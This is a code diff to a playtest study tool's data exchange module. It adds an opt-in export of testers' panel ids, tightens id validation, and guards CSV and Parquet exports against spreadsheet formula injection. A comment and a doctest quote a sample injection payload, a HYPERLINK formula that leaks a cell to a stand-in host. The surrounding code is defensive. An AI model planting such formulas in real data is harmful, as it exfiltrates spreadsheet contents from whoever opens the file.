@@ -20,8 +20,9 @@ nothing of the file is stored). The file is read line by line, twice, and never 
   character (``\u0000``) or lone UTF-16 surrogate (PostgreSQL cannot store either);
 - integers lie within ±(2⁵³ − 1) (:data:`MAX_INTEGER`, what every JSON reader keeps
   exactly); numbers are finite (no ``NaN``, ``Infinity`` or 1e999);
-- a study record's settings pass the same check as the Studies page
-  (:func:`playtest.study_config.study_record_problem`);
+- a study record's settings pass the same check as the Studies page: the caller passes
+  it (``check_study``; the app's is :func:`playtest.study_config.study_record_problem`,
+  which knows the games; storage knows none);
 - a tester's events, answers and assignments are not dated before their consent;
 - ids, types and versions fit their columns (64 characters for most ids), and whole
   numbers stored in 32-bit columns (seq, games_completed) fit them;
@@ -39,6 +40,7 @@ top-level prop as its own ``props.<key>`` column so a spreadsheet can filter on 
 
 from __future__ import annotations
 
+import csv
 import json
 import math
 import re
@@ -59,21 +61,26 @@ from analytics.data import (
     StudyData,
 )
 from playtest.storage import survey_records
+from playtest.storage.admission import PANEL_ID
 from playtest.storage.db import write_lock
 from playtest.storage.errors import ImportRejected, NotFound
 from playtest.storage.models import (
     STAGES,
     assignments,
     events,
+    panel_ids,
     participants,
     responses,
     sessions,
     studies,
 )
 from playtest.storage.repository import PHASES, upsert_insert
+from playtest.storage.settings_document import exchange_fields, raw_config
 from playtest.storage.timeutil import iso_from_ms, ms_from_iso, now_ms
-from playtest.study_config import exchange_fields, raw_config
 
+#: A participant record's recruitment panel ids, written by ``export --with-panel-ids``
+#: only: the panel (``prolific``/``generic``), its participant id, study id and session id.
+PANEL_KEYS = ("panel", "panel_id", "panel_study", "panel_session")
 RECORD_KINDS = ("study", "participant", "assignment", "event", "response", "survey")
 #: Record kinds stored as rows of their own table (a ``survey`` goes with its studies).
 TABLE_KINDS = RECORD_KINDS[:-1]
@@ -102,6 +109,7 @@ OPTIONAL: dict[str, tuple[str, ...]] = {
         "games_completed",
         "completion_code",
         "attributes",
+        *PANEL_KEYS,  # only in an export that asked for them (personal data)
     ),
     "assignment": (),
     "event": ("game_id", "client_event_id"),
@@ -125,10 +133,20 @@ def _extra(value: Any) -> dict[str, Any]:
     return value if isinstance(value, dict) else {}
 
 
-def iter_records(engine: Engine, study_id: str) -> Iterator[dict[str, Any]]:
+def iter_records(engine: Engine, study_id: str, *,
+                 with_panel_ids: bool = False) -> Iterator[dict[str, Any]]:
     """A study's exchange-format records in file order: study, participants, assignments,
-    events (by participant, session, seq), responses."""
+    events (by participant, session, seq), responses.
+
+    A tester's recruitment panel ids are personal data: a participant record carries
+    them (:data:`PANEL_KEYS`) only ``with_panel_ids``."""
     with engine.connect() as conn:
+        panel_of: dict[str, dict[str, Any]] = {}
+        if with_panel_ids:
+            panel_of = {
+                str(row.participant_id): {key: getattr(row, key) for key in PANEL_KEYS}
+                for row in conn.execute(select(panel_ids)
+                                        .where(panel_ids.c.study_id == study_id))}
         study = conn.execute(select(studies).where(studies.c.study_id == study_id)).first()
         if study is None:
             raise NotFound(f"no study {study_id!r}")
@@ -168,6 +186,7 @@ def iter_records(engine: Engine, study_id: str) -> Iterator[dict[str, Any]]:
                 "completion_code": row.completion_code,
                 "attributes": row.attributes,
                 **_extra(row.extra),
+                **panel_of.get(row.participant_id, {}),
             }
         for row in conn.execute(
             select(assignments)
@@ -234,8 +253,10 @@ def iter_records(engine: Engine, study_id: str) -> Iterator[dict[str, Any]]:
             }
 
 
-def export_jsonl(engine: Engine, study_id: str, out: str | Path) -> dict[str, int]:
-    """Write a study as JSON Lines; returns the number of records per kind.
+def export_jsonl(engine: Engine, study_id: str, out: str | Path, *,
+                 with_panel_ids: bool = False) -> dict[str, int]:
+    """Write a study as JSON Lines; returns the number of records per kind (the panel
+    ids only ``with_panel_ids``: :func:`iter_records`).
 
     The file appears complete or not at all: it is written to a temporary file next to
     ``out`` and renamed at the end; a failure (an unknown study, a full disk) removes it.
@@ -246,7 +267,7 @@ def export_jsonl(engine: Engine, study_id: str, out: str | Path) -> dict[str, in
     path = Path(out)
     path.parent.mkdir(parents=True, exist_ok=True)
     with written_together([path]) as (tmp,), tmp.open("w", encoding="utf-8") as handle:
-        for record in iter_records(engine, study_id):
+        for record in iter_records(engine, study_id, with_panel_ids=with_panel_ids):
             counts[record["record"]] += 1
             handle.write(json.dumps(record, ensure_ascii=False, separators=(",", ":")))
             handle.write("\n")
@@ -259,9 +280,31 @@ def _json_text(value: Any) -> Any:
     return value
 
 
-def export_tables(engine: Engine, study_id: str, out: str | Path, fmt: str) -> dict[str, Path]:
+#: A spreadsheet reads a cell starting with one of these as a formula (OWASP, "CSV
+#: Injection"; ASVS 1.2.10 adds NUL): ``=HYPERLINK("http://x/?leak="&A1,"Click")`` in a
+#: tester's answer would run when the designer opens the export.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
+
+
+def neutralised(value: Any) -> Any:
+    """A text cell as a spreadsheet must show it: with a leading ``'`` when it starts like
+    a formula (OWASP's rule); numbers and other texts as they are. JSON Lines exports
+    keep every value exact; only the CSV and Parquet tables do this.
+
+    >>> print(neutralised('=HYPERLINK("http://x.example/?leak="&A1,"Click")'))
+    '=HYPERLINK("http://x.example/?leak="&A1,"Click")
+    >>> neutralised("-3"), neutralised(-3), neutralised("fine")
+    ("'-3", -3, 'fine')
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def export_tables(engine: Engine, study_id: str, out: str | Path, fmt: str, *,
+                  with_panel_ids: bool = False) -> dict[str, Path]:
     """Write one tidy table per record kind as CSV or Parquet; returns kind → file."""
-    return export_tables_counted(engine, study_id, out, fmt)[0]
+    return export_tables_counted(engine, study_id, out, fmt, with_panel_ids=with_panel_ids)[0]
 
 
 def table_paths(out: str | Path, fmt: str) -> dict[str, Path]:
@@ -284,20 +327,25 @@ def table_paths(out: str | Path, fmt: str) -> dict[str, Path]:
 
 
 def export_tables_counted(
-    engine: Engine, study_id: str, out: str | Path, fmt: str
+    engine: Engine, study_id: str, out: str | Path, fmt: str, *, with_panel_ids: bool = False
 ) -> tuple[dict[str, Path], dict[str, int]]:
-    """:func:`export_tables`, also returning the rows per kind; all files or none."""
+    """:func:`export_tables`, also returning the rows per kind; all files or none.
+
+    Every text cell is :func:`neutralised` (a leading ``'`` before a formula's first
+    character), and a CSV quotes every cell, so no cell a tester wrote runs as a formula
+    in a spreadsheet."""
     from playtest.storage.outfiles import written_together
 
     if fmt not in ("csv", "parquet"):
         raise ValueError(f"format must be csv or parquet, not {fmt!r}")
     rows: dict[str, list[dict[str, Any]]] = {kind: [] for kind in RECORD_KINDS}
-    for record in iter_records(engine, study_id):
+    for record in iter_records(engine, study_id, with_panel_ids=with_panel_ids):
         kind = record.pop("record")
         if kind == "event":
             for key, value in record["props"].items():
                 record[f"props.{key}"] = _json_text(value)
-        rows[kind].append({key: _json_text(value) for key, value in record.items()})
+        rows[kind].append({key: neutralised(_json_text(value))
+                           for key, value in record.items()})
     # A study whose answers use no known survey gets no table of definitions.
     rows = {kind: records for kind, records in rows.items() if kind != "survey" or records}
     targets = {kind: path for kind, path in table_paths(out, fmt).items() if kind in rows}
@@ -306,7 +354,7 @@ def export_tables_counted(
         for records, temporary in zip(rows.values(), temporaries, strict=True):
             frame = pd.DataFrame.from_records(records)
             if fmt == "csv":
-                frame.to_csv(temporary, index=False)
+                frame.to_csv(temporary, index=False, quoting=csv.QUOTE_ALL)
             else:
                 # Mixed-type columns (answers may be numbers or text) go to Parquet as text.
                 for column in frame.columns:
@@ -327,7 +375,7 @@ def _events_source(conn: Any, engine: Engine, study_id: str) -> str:
     """``events``, or on SQLite ``events NOT INDEXED`` when the study has most testers.
 
     Without ``ANALYZE`` statistics SQLite reads a study's events through
-    ``ix_events_study_type``: one random table access per event, twice as slow as
+    ``ix_events_study_type_at``: one random table access per event, twice as slow as
     reading the table in order when the study holds most of it (1.66M events: 5.2 s
     against 2.7 s). With other, bigger studies in the file the index stays the better way.
     """
@@ -573,12 +621,44 @@ def _is_time(value: Any) -> bool:
     return True
 
 
+_ID_LIMIT = 128
+
+
 def _is_id(value: Any) -> bool:
-    return isinstance(value, str) and 0 < len(value) <= 128
+    return isinstance(value, str) and 0 < len(value) <= _ID_LIMIT
 
 
-def _check_record(number: int, record: dict[str, Any], problems: _Problems) -> bool:
-    """Per-line checks: kind, required keys, value types. False if the line is unusable."""
+def _id_problem(key: str, value: Any) -> str | None:
+    """What is wrong with an id (None: nothing); a long one is told as too long.
+
+    >>> _id_problem("study_id", "x" * 300)
+    'study_id is too long: 300 characters, at most 64'
+    >>> _id_problem("study_id", ""), _id_problem("study_id", 7)
+    ('study_id must not be empty', 'study_id must be a string')
+    """
+    if not isinstance(value, str):
+        return f"{key} must be a string"
+    if not value:
+        return f"{key} must not be empty"
+    limit = min(_ID_LIMIT, _LENGTHS.get(key, _ID_LIMIT))
+    if len(value) > limit:
+        return f"{key} is too long: {len(value):,} characters, at most {limit}"
+    return None
+
+
+def _id_problems(record: dict[str, Any], *keys: str) -> list[str]:
+    return [problem for key in keys if (problem := _id_problem(key, record[key]))]
+
+
+#: Why a ``study`` record's settings would fail at play, or None (the caller's check of a
+#: study's settings: storage knows no game).
+StudyCheck = Callable[[dict[str, Any]], str | None]
+
+
+def _check_record(number: int, record: dict[str, Any], problems: _Problems,
+                  check_study: StudyCheck | None = None) -> bool:
+    """Per-line checks: kind, required keys, value types, and a study record's settings
+    by ``check_study``. False if the line is unusable."""
     kind = record.get("record")
     if kind not in REQUIRED:
         problems.add(number, f"unknown record {kind!r} (expected one of {', '.join(RECORD_KINDS)})")
@@ -589,8 +669,7 @@ def _check_record(number: int, record: dict[str, Any], problems: _Problems) -> b
         return False
     bad: list[str] = []
     if kind == "study":
-        if not _is_id(record["study_id"]):
-            bad.append("study_id must be a non-empty string")
+        bad.extend(_id_problems(record, "study_id"))
         game = record.get("game", UNNAMED_GAME)
         if not isinstance(record["title"], str) or not isinstance(game, str) or not (
                 0 < len(game) <= 40):
@@ -609,28 +688,22 @@ def _check_record(number: int, record: dict[str, Any], problems: _Problems) -> b
             bad.append("experiments must be a list of {key, variants: [names], target}")
         if "created_at" in record and not _is_time(record["created_at"]):
             bad.append("created_at must be an ISO 8601 time with a zone")
-        if not bad:
-            from playtest.study_config import study_record_problem
-
-            problem = study_record_problem(record)
+        if not bad and check_study is not None:
+            problem = check_study(record)
             if problem is not None:
                 bad.append(f"settings refused, {problem}")
     elif kind == "participant":
-        if not _is_id(record["participant_id"]) or not _is_id(record["study_id"]):
-            bad.append("participant_id and study_id must be non-empty strings")
+        bad.extend(_id_problems(record, "participant_id", "study_id"))
         if not _is_time(record["created_at"]):
             bad.append("created_at must be an ISO 8601 time with a zone")
         if record["consented_at"] is not None and not _is_time(record["consented_at"]):
             bad.append("consented_at must be null or an ISO 8601 time with a zone")
     elif kind == "assignment":
-        for key in ("participant_id", "experiment", "variant"):
-            if not _is_id(record[key]):
-                bad.append(f"{key} must be a non-empty string")
+        bad.extend(_id_problems(record, "participant_id", "experiment", "variant"))
         if not _is_time(record["at"]):
             bad.append("at must be an ISO 8601 time with a zone")
     elif kind == "event":
-        if not _is_id(record["participant_id"]) or not _is_id(record["session_id"]):
-            bad.append("participant_id and session_id must be non-empty strings")
+        bad.extend(_id_problems(record, "participant_id", "session_id"))
         seq = record["seq"]
         if not isinstance(seq, int) or isinstance(seq, bool) or seq < 1:
             bad.append("seq must be a whole number from 1")
@@ -651,9 +724,7 @@ def _check_record(number: int, record: dict[str, Any], problems: _Problems) -> b
             if problem:
                 bad.append(problem)
     elif kind == "response":
-        for key in ("participant_id", "survey", "item"):
-            if not _is_id(record[key]):
-                bad.append(f"{key} must be a non-empty string")
+        bad.extend(_id_problems(record, "participant_id", "survey", "item"))
         if not isinstance(record["survey_version"], str | int | float):
             bad.append("survey_version must be a string")
         if record["phase"] not in PHASES:
@@ -697,7 +768,7 @@ def _column_problems(record: dict[str, Any]) -> list[str]:
         if isinstance(value, str):
             limit = _LENGTHS.get(key)
             if limit is not None and len(value) > limit:
-                bad.append(f"{key} must be at most {limit} characters (it has {len(value):,})")
+                bad.append(f"{key} is too long: {len(value):,} characters, at most {limit}")
         elif (isinstance(value, int) and not isinstance(value, bool) and key in _SMALL_INTS
               and not -_INT32 <= value <= _INT32):
             bad.append(f"{key} must be at most {_INT32:,}")
@@ -727,6 +798,12 @@ def _check_optional(kind: str, record: dict[str, Any]) -> list[str]:
         expect("stage", lambda v: v in STAGES, f"one of {', '.join(STAGES)}")
         expect("games_completed", lambda v: whole(v) and v >= 0, "a whole number")
         expect("completion_code", lambda v: isinstance(v, str) and len(v) <= 64, "a string")
+        expect("panel", lambda v: v in ("prolific", "generic"), "prolific or generic")
+        for key in PANEL_KEYS[1:]:
+            expect(key, lambda v: isinstance(v, str) and bool(PANEL_ID.match(v)),
+                   "a panel id (1-64 letters, digits, '.', '_' or '-')")
+        if (record.get("panel") is None) != (record.get("panel_id") is None):
+            bad.append("panel and panel_id go together")
     elif kind == "event":
         expect("client_event_id", lambda v: isinstance(v, str) and len(v) <= 128, "a string")
     elif kind == "response":
@@ -932,7 +1009,8 @@ def _chunks(values: list[str], size: int = 500) -> Iterator[list[str]]:
         yield values[start : start + size]
 
 
-def _validate(engine: Engine, path: Path, report: ImportReport) -> _Plan:
+def _validate(engine: Engine, path: Path, report: ImportReport,
+              check_study: StudyCheck | None) -> _Plan:
     problems = _Problems()
     plan = _Plan()
     with path.open("rb") as handle:
@@ -948,7 +1026,7 @@ def _validate(engine: Engine, path: Path, report: ImportReport) -> _Plan:
             if not isinstance(record, dict):
                 problems.add(number, "a line must hold one JSON object")
                 continue
-            if not _check_record(number, record, problems):
+            if not _check_record(number, record, problems, check_study):
                 continue
             kind = record["record"]
             report.read[kind] += 1
@@ -1139,12 +1217,16 @@ def _insert_events(
         cursor.close()
 
 
-def import_jsonl(engine: Engine, path: str | Path) -> ImportReport:
+def import_jsonl(engine: Engine, path: str | Path, *,
+                 check_study: StudyCheck | None = None) -> ImportReport:
     """Import an exchange-format file: validate every line, then store it all or nothing.
 
     Raises :class:`ImportRejected` (with line numbers) and stores nothing if any line is
     malformed or inconsistent. Records already stored are skipped, so importing the same
-    file twice adds nothing the second time.
+    file twice adds nothing the second time. ``check_study`` refuses a study record whose
+    settings would fail at play (the app passes
+    :func:`playtest.study_config.study_record_problem`); without it, a study's settings
+    are checked for their shape only.
     """
     source = Path(path)
     if not source.is_file():
@@ -1153,7 +1235,7 @@ def import_jsonl(engine: Engine, path: str | Path) -> ImportReport:
     not_jsonl = _not_jsonl(source)
     if not_jsonl is not None:
         raise ImportRejected(str(source), [not_jsonl])
-    plan = _validate(engine, source, report)
+    plan = _validate(engine, source, report, check_study)
     report.studies = sorted(set(plan.studies)
                             | {record["study_id"] for _, record in plan.participants.values()})
     tables = {  # one per kind of TABLE_KINDS
@@ -1221,6 +1303,15 @@ def import_jsonl(engine: Engine, path: str | Path) -> ImportReport:
                 }
             )
         put(participants, part_rows, ["participant_id"])
+        # Panel ids (an export that asked for them): one tester per panel id and study,
+        # as when they arrived; a panel id stored for another tester keeps that one.
+        panel_rows = [
+            {"participant_id": pid, "study_id": rec["study_id"],
+             "at_ms": ms_from_iso(rec["created_at"]),
+             **{key: rec.get(key) for key in PANEL_KEYS}}
+            for pid, (_, rec) in plan.participants.items() if rec.get("panel_id")]
+        if panel_rows:
+            conn.execute(upsert_insert(engine, panel_ids).on_conflict_do_nothing(), panel_rows)
         missing = sorted(set(plan.needs_participant) - set(study_of))
         for chunk in _chunks(missing):
             study_of.update(
